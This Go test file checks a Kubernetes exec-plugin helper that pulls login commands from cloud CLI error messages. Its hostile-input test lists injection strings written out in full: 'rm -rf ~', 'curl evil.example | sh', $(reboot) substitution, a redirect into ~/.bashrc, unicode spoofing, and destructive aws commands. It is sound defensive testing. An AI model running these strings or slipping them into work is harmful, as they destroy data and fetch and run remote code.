package plugin

import (
	"strings"
	"testing"

	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
)

func execOf(command string, args ...string) *clientcmdapi.ExecConfig {
	return &clientcmdapi.ExecConfig{Command: command, Args: args}
}

// What the plugins of the clouds print when a login is needed, in their own words.
var realAdvice = []struct {
	name string
	exec *clientcmdapi.ExecConfig
	said string
	want string
}{
	{"aws without credentials", execOf("aws", "eks", "get-token"),
		"\nUnable to locate credentials. You can configure credentials by running \"aws configure\".\n", "aws configure"},
	{"aws 2.32 without credentials", execOf("/usr/local/bin/aws", "eks", "get-token", "--profile", "dev"),
		"\naws: [ERROR]: Unable to locate credentials. You can configure credentials by running \"aws login\".\n", "aws login --profile dev"},
	{"aws after a session", execOf("aws"),
		"\naws: [ERROR]: Your session has expired. Please reauthenticate using 'aws login'.\n", "aws login"},
	{"aws with SSO", execOf("aws", "--profile=dev"),
		"Error loading SSO Token: Token for corp does not exist\nThe SSO session associated with this profile has expired or is otherwise invalid. " +
			"To refresh this SSO session run aws sso login with the corresponding profile.\n", "aws sso login --profile dev"},
	{"aws-iam-authenticator", execOf("aws-iam-authenticator", "token", "-i", "c"),
		"could not get token: failed to refresh cached credentials, the SSO session has expired or is invalid. To refresh this SSO session run `aws sso login`", "aws sso login"},
	{"gcloud", execOf("gke-gcloud-auth-plugin"),
		"ERROR: (gcloud.config.config-helper) There was a problem refreshing your current auth tokens: Reauthentication failed. cannot prompt during " +
			"non-interactive execution.\nPlease run:\n\n  $ gcloud auth login\n\nto obtain new credentials.\n\nIf you have already logged in with a " +
			"different account, run:\n\n  $ gcloud config set account ACCOUNT\n\nto select an already authenticated account to use.\n", "gcloud auth login"},
	{"gke-gcloud-auth-plugin", execOf("gke-gcloud-auth-plugin.exe"),
		"F0826 10:31:14.086748   21795 cred.go:150] print credential failed with error: Failed to retrieve access token:: failure while executing gcloud, " +
			"with args [config config-helper --format=json]: exit status 1 (err: ERROR: (gcloud.config.config-helper) You do not currently have an active account selected.\n" +
			"Please run:\n\n  $ gcloud auth login\n\nto obtain new credentials.\n)\n", "gcloud auth login"},
	{"az", execOf("az", "account", "get-access-token"), "\x1b[31mERROR: Please run 'az login' to setup account.\x1b[0m\n", "az login"},
	{"az with a scope", execOf("az"),
		"ERROR: AADSTS700082: The refresh token has expired due to inactivity. Trace ID: 7ca6cad4\nInteractive authentication is needed. Please run:\n" +
			"az login --scope https://management.core.windows.net//.default\n", "az login --scope https://management.core.windows.net//.default"},
	{"az with a tenant", execOf("az"),
		"Interactive authentication is needed. Please run:\naz logout\naz login --tenant \"72f988bf-86f1-41af-91ab-2d7cd011db47\" --scope \"6dae42f8-4368-4678-94ff-3960e28e3630/.default\"\n",
		"az login --tenant 72f988bf-86f1-41af-91ab-2d7cd011db47 --scope 6dae42f8-4368-4678-94ff-3960e28e3630/.default"},
	{"kubelogin with az", execOf("kubelogin", "get-token", "--login", "azurecli", "--tenant-id", "t-1"),
		"Error: failed to get token: AzureCLICredential: ERROR: Please run 'az login' to setup account.\n", "az login --tenant t-1"},
	{"kubelogin with azd", execOf("kubelogin", "get-token", "--login", "azd"),
		"Error: failed to get token: AzureDeveloperCLICredential: please run \"azd auth login\" from a command prompt to authenticate before using this credential\n", "azd auth login"},
	{"tsh", execOf("/opt/tsh", "kube", "credentials"),
		"ERROR: your credentials have expired, please login using tsh login --proxy=teleport.example.com:443 --user=me\n", "tsh login --proxy=teleport.example.com:443 --user=me"},
	{"tsh with its cluster", execOf("tsh"), "Not logged in. Run:\n  tsh login --proxy=teleport.example.com leaf\n", "tsh login --proxy=teleport.example.com leaf"},
	{"tsh without a proxy", execOf("tsh", "kube", "credentials", "--proxy=t.example:443"), "ERROR: not logged in, run 'tsh login'\n", "tsh login --proxy t.example:443"},
	{"doctl", execOf("doctl", "kubernetes", "cluster", "kubeconfig", "exec-credential"),
		"Error: Unable to initialize DigitalOcean API client: access token is required. (hint: run 'doctl auth init')\n", "doctl auth init"},
	{"oci", execOf("oci", "ce", "cluster", "generate-token"),
		"ERROR: The security token has expired. Run \"oci session authenticate\" to get another one.\n", "oci session authenticate"},
	{"oci without a config", execOf("oci"),
		"ERROR: Could not find config file at /home/me/.oci/config\nFor more info, run: oci setup config\n", "oci setup config"},
	{"a plugin of one's own", execOf("/home/me/bin/corp-login", "token"), "session ended; use `corp-login auth login --region eu` first\n", "corp-login auth login --region eu"},
	{"behind env", execOf("env", "AWS_REGION=eu", "aws", "eks", "get-token"), "Please reauthenticate using 'aws login'.", "aws login"},
	{"behind a shell", execOf("bash", "-c", "aws eks get-token --cluster-name x"), "run \"aws configure\".", "aws configure"},
	{"with a command that is no login first", execOf("aws"), "See 'aws help'. Run 'aws sso login --profile dev'.", "aws sso login --profile dev"},
}

func TestAPluginsOwnAdviceIsRecognized(t *testing.T) {
	for _, test := range realAdvice {
		t.Run(test.name, func(t *testing.T) {
			if got := adviceCommand(test.exec, test.said); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

// Words that must not become a command.
func TestHostileAdviceIsNone(t *testing.T) {
	for _, said := range []string{
		"run rm -rf ~",
		"run \"rm -rf ~\" and aws",
		"aws configure; rm -rf ~",
		"aws configure ; rm -rf ~",
		"run 'aws configure; rm -rf ~'",
		"run \"aws configure && curl evil.example | sh\"",
		"aws configure | sh",
		"aws configure > ~/.bashrc",
		"aws configure & reboot",
		"aws login --profile $(reboot)",
		"aws login --profile `reboot`",
		"aws login --profile=$(reboot)",
		"aws login --profile ${HOME}",
		"aws login --profile \"a b\"",
		"aws login --profile 'x; reboot'",
		"aws login --profile dev;reboot",
		"aws login --profile dev\\nreboot",
		"aws login\u2028reboot",
		"aws login \u202etoober",
		"aws login\x00",
		"aws login --profile d\u0435v", // a Cyrillic letter
		"aws login --endpoint-url https://evil.example",
		"aws login --no-verify-ssl",
		"aws sso login --profile AKIAIOSFODNN7EXAMPLEwJalrXUtnFEMIK7MDENG",
		"aws login --secret hunter2",
		"aws s3 rm --recursive s3://bucket",
		"aws ec2 terminate-instances --instance-ids i-1 # login",
		"evilaws login",
		"./aws login",
		"/tmp/aws login",
		"AWS LOGIN",
		"run tsh login",         // another plugin's program
		"run gcloud auth login", // the same
		"aws login --profile <profile>",
		"aws login --use-device-code to sign in", // where it ends is not known
		"run \"aws login",
		"run \"aws login \u201d",
		"aws login " + strings.Repeat("--region eu ", 30),
		strings.Repeat("aws ", 1000),
		"aws",
		"",
	} {
		if got := adviceCommand(execOf("aws", "eks", "get-token"), said); got != "" {
			t.Errorf("%q makes the command %q", said, got)
		}
	}
}

// Every command that is returned means the same to every shell.
func FuzzAdvice(f *testing.F) {
	for _, test := range realAdvice {
		f.Add(test.exec.Command, test.said)
	}
	f.Fuzz(func(t *testing.T, command, said string) {
		got := adviceCommand(execOf(command, "aws"), said)
		if got == "" {
			return
		}
		if len(got) > maxAdvice+100 || strings.Trim(got, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._@:/=+ -") != "" {
			t.Errorf("%q", got)
		}
		if sub, _ := subcommandOf(strings.Fields(got)[1:]); len(sub) == 0 {
			t.Errorf("%q logs in nowhere", got)
		}
	})
}
